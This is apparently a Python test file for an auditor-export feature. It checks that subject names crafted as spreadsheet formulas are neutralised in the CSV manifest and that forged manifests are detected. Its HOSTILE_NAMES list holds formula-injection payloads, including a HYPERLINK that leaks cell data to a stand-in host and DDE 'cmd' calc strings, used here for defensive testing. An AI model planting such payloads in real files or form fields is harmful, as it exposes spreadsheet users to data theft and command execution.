"""The outside security test's findings about the audit trail and the auditor's export
(issue 10): a hostile subject name must not become a formula in the auditor's
spreadsheet, every decision of a period (non-acceptances and revocations too) must be in
the export, and the event chain must be anchored so that cutting or rewriting it in the
database is found.
"""

import csv
import datetime
import io
import json
import zipfile

from django.core.management import call_command

from cases.models import Case
from documents.exports import export_verify, spreadsheet_cell
from documents.models import Letter
from tests import factories
from tests.helpers import (
    objection_accepted,
    restorable_record,
)
from tests.test_exports import at, decide, issue, private_files  # noqa: F401 - a fixture

# --- an export as the auditor gets it ---------------------------------------------------------


def export(tmp_path, agency, date_from, date_to, name="export.zip"):
    out = tmp_path / name
    call_command(
        "export_decisions",
        agency=agency.code,
        date_from=date_from.isoformat(),
        date_to=date_to.isoformat(),
        out=str(out),
        stdout=io.StringIO(),
    )
    return out


def manifest_csv(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"))))


def manifest_json(path) -> dict:
    with zipfile.ZipFile(path) as zf:
        return json.loads(zf.read("manifest.json"))


def exported_events(path) -> list[dict]:
    with zipfile.ZipFile(path) as zf:
        return [json.loads(line) for line in zf.read("events.jsonl").decode().splitlines()]


# --- finding 5: a subject's name is not a formula in the auditor's spreadsheet ------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '＝HYPERLINK("http://evil.example/")',
]


def test_a_subject_named_like_a_formula_is_plain_text_in_the_auditors_manifest(
    agency, platforms, applicant, staff, tmp_path
):
    """A company whose registered name is =HYPERLINK(...) reaches the auditor's
    spreadsheet as text: the cell starts with a single quote, the JSON keeps the name."""
    hostile = factories.SubjectFactory(name=HOSTILE_NAMES[0])
    representative = factories.representative(hostile, "mallory")
    case = objection_accepted(
        hostile, [restorable_record(hostile, agency, platforms)], representative, staff
    )
    case = decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    letter = issue(case, Letter.Kind.REJECTION)

    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))

    (row,) = manifest_csv(out)
    assert row["verification_code"] == letter.verification_code
    assert row["subject_name"] == "'" + HOSTILE_NAMES[0]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert manifest_json(out)["letters"][0]["subject_name"] == HOSTILE_NAMES[0]
    report = export_verify(out)
    assert report.ok, report.problems


def test_every_cell_a_spreadsheet_would_evaluate_is_neutralised_and_no_other():
    assert [spreadsheet_cell(name) for name in HOSTILE_NAMES] == [
        "'" + name for name in HOSTILE_NAMES
    ]
    ordinary = ["深圳市示例科技有限公司", "Acme (Shenzhen) Co., Ltd.", "RD-2026-000001", 1234, ""]
    assert [spreadsheet_cell(value) for value in ordinary] == [str(v) for v in ordinary]


def test_verify_export_finds_a_manifest_csv_whose_cells_differ_from_the_json(
    agency, platforms, applicant, company, staff, tmp_path
):
    case = objection_accepted(
        company, [restorable_record(company, agency, platforms)], applicant, staff
    )
    decide(case, staff, Case.Decision.REJECTED, at("2026-03-10", "10:00"))
    issue(case, Letter.Kind.REJECTION)
    out = export(tmp_path, agency, datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    rows = manifest_csv(out)
    rows[0]["subject_name"] = '=HYPERLINK("http://evil.example/")'
    forged = io.StringIO()
    writer = csv.DictWriter(forged, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    target = tmp_path / "forged.zip"
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = forged.getvalue().encode() if item.filename == "manifest.csv" else None
            new.writestr(item, data if data is not None else old.read(item.filename))

    problems = export_verify(target).problems

    assert f"{rows[0]['file']}: manifest.csv and manifest.json disagree (subject_name)" in problems
